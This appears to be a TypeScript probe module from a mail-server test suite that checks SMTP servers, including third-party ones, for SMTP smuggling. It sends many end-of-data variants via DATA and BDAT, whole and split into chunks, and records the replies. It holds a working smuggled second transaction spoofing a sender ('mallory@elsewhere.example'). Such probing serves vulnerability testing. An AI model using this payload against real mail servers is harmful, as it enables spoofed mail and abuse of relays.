/**
 * The tries at smuggling: each end of data that is none, whole and in pieces, in a session of its own on servers of others,
 * in rows beside each other; what the server said to each, and what it took for content.
 *
 * A second message stands behind each sequence. An EHLO behind everything tells where the replies of one try end.
 */
import assert from 'node:assert/strict'
import { variants } from '../../probes/smuggling.ts'
import type { Variant } from '../../probes/smuggling.ts'
import type { WireClient, WireReply } from '../../simulators/contract.ts'
import { NotApplicable } from '../../targets/faults.ts'
import type { MailWorld } from '../world.ts'
import { abreast, inRows } from './rows.ts'

/** Contents that were taken, by their token, as they must arrive. */
export const takenOf = new WeakMap<MailWorld, Map<string, string>>()

const remember = (world: MailWorld, token: string, content: string): void => {
  const taken = takenOf.get(world) ?? new Map<string, string>()
  takenOf.set(world, taken.set(token, content))
}

/** What is left when the dots are taken off that DATA puts before lines that begin with one. */
const withoutDots = (content: string): string => content.replace(/^\./, '').replaceAll('\r\n.', '\r\n')

interface Manner {
  readonly command: 'DATA' | 'BDAT'
  readonly secure: boolean
  /** The address that the client speaks from. */
  readonly source: string
  readonly from: string
  readonly to: string
  /** The server may take nothing in one group with the end of content: what is asked once more is no sign of an end before. */
  readonly twice?: boolean
}

/** The most replies of one try: a chunk for each octet of a sequence, a whole second transaction, and the sentinel. */
const mostReplies = 30

const open = async (world: MailWorld, { secure, source }: Manner): Promise<WireClient> => {
  const wire = await world.scene.connect(world.endpoint('relay'), {
    from: source,
    title: 'somebody who smuggles → the server',
  })
  await wire.reply()
  await wire.say('EHLO client.example')
  if (secure) {
    const ready = await wire.say('STARTTLS')
    assert.equal(ready.code, 220, 'the server does not begin TLS')
    await wire.secure()
    await wire.say('EHLO client.example')
  }
  return wire
}

/** A first message with the sequence and a second one behind it. */
const payload = ({ octets, first }: Variant, token: string): { readonly bytes: Buffer; readonly at: number } => {
  const head = `Subject: ${token}\r\n\r\nfirst`
  const smuggled =
    'MAIL FROM:<mallory@elsewhere.example>\r\nRCPT TO:<carol@here.example>\r\nDATA\r\nSubject: smuggled\r\n\r\nsmuggled'
  const text = first ? `${octets}${smuggled}\r\n${head}\r\n` : `${head}${octets}${smuggled}\r\n`
  return { bytes: Buffer.from(text, 'latin1'), at: first ? 0 : head.length }
}

/** The pieces that cuts leave of so many octets. */
const lengthsOf = (cuts: readonly number[], octets: number): readonly number[] =>
  [...cuts, octets].map((cut, index) => cut - (cuts[index - 1] ?? 0))

/** One try; gives the replies between the invitation to send content and the sentinel, or the end of the connection. */
const attempt = async (
  wire: WireClient,
  { command, from, to, twice = false }: Manner,
  bytes: Buffer,
  cuts: readonly number[],
): Promise<{ readonly replies: readonly WireReply[]; readonly closed: boolean }> => {
  await wire.say(`MAIL FROM:<${from}>`)
  const recipient = await wire.say(`RCPT TO:<${to}>`)
  assert.equal(recipient.code, 250, `RCPT ${to}: ${recipient.code}`)
  const sentinel = Buffer.from('EHLO sentinel.example\r\n')
  if (command === 'DATA') {
    assert.equal((await wire.say('DATA')).code, 354)
    const all = Buffer.concat([bytes, Buffer.from('.\r\n'), sentinel])
    await wire.send(all, cuts.length === 0 ? [] : lengthsOf(cuts, all.length))
  } else {
    const lengths = lengthsOf(cuts, bytes.length)
    const chunks = lengths.map((length, index) => {
      const start = cuts[index - 1] ?? 0
      const last = index === lengths.length - 1 ? ' LAST' : ''
      return Buffer.concat([Buffer.from(`BDAT ${length}${last}\r\n`), bytes.subarray(start, start + length)])
    })
    await wire.send(Buffer.concat([...chunks, sentinel]))
  }
  const replies: WireReply[] = []
  let asked = twice ? 1 : 2
  for (let heard = 0; heard < mostReplies; heard += 1) {
    const reply = await wire.reply().catch(() => undefined)
    if (reply === undefined) return { replies, closed: true }
    if (reply.code === 250 && reply.lines.length > 1) break
    if (asked < 2 && reply.code === 503 && replies.length > 0) {
      asked += 1
      await wire.send(sentinel)
    } else replies.push(reply)
  }
  return { replies, closed: false }
}

/** The session that is open for the next try. */
interface Wires {
  current: WireClient | undefined
}

/** Longer sequences are cut at every octet at once only. */
const longestCutSingly = 4

/** How to cut: at each place alone, before, in and after the sequence; and at all of them at once. */
const cutsOf = ({ octets }: Variant, at: number): readonly (readonly number[])[] => {
  const begin = Math.max(1, octets.length > 20 ? at + octets.length - 5 : at - 1)
  const places = Array.from({ length: at + octets.length + 2 - begin }, (_, index) => begin + index)
  return octets.length <= longestCutSingly ? [places, ...places.map((place) => [place])] : [places]
}

const tryVariant = async (
  world: MailWorld,
  manner: Manner,
  variant: Variant,
  split: boolean,
  wires: Wires,
): Promise<string> => {
  const told = new Set<string>()
  for (const cuts of split ? cutsOf(variant, payload(variant, world.nextToken()).at) : [[]]) {
    const token = world.nextToken()
    const { bytes } = payload(variant, token)
    try {
      wires.current ??= await open(world, manner)
      const { replies, closed } = await attempt(wires.current, manner, bytes, cuts)
      const expected = manner.command === 'BDAT' ? cuts.length + 1 : 1
      const ended = replies.length > expected || replies.some(({ code }) => code === 354)
      if (!ended && replies.at(-1)?.code === 250) {
        const sent = bytes.toString('latin1')
        remember(world, token, manner.command === 'DATA' ? withoutDots(sent) : sent)
      }
      // A server that notices what follows too soon and hangs up has ended the data all the same.
      const codes = replies.map(({ code }) => code).join(' ')
      told.add(ended ? `ends the data: ${codes}` : `content: ${replies.at(-1)?.code ?? 'closes'}`)
      // Sendmail waits before it answers a third EHLO: on servers of others each try has a session of its own.
      if (closed || world.target.isOurs !== true) {
        await wires.current.close()
        wires.current = undefined
      }
    } catch (error) {
      if (error instanceof assert.AssertionError) throw error
      await wires.current?.close()
      wires.current = undefined
      told.add('closes')
    }
  }
  return [...told].join(', ')
}

/** An EHLO that is refused tells no more where a try ends than the answer to what was smuggled. */
const greetsAgain = async (world: MailWorld, manner: Manner): Promise<boolean> => {
  const wire = await open(world, { ...manner, secure: false })
  const { code } = await wire.say('EHLO sentinel.example')
  await wire.close()
  return code === 250
}

/** What the server said to each variant, in their order. */
export const tryAll = async (world: MailWorld, manner: Manner, split: boolean): Promise<readonly string[]> => {
  if (world.target.isOurs !== true && !(await greetsAgain(world, manner)))
    throw new NotApplicable('takes EHLO only once in a session, so that nobody sees where a try ends')
  return inRows(variants, world.target.isOurs === true ? 1 : abreast, async (row) => {
    const wires: Wires = { current: undefined }
    const told: string[] = []
    for (const variant of row) told.push(await tryVariant(world, manner, variant, split, wires))
    return told
  })
}
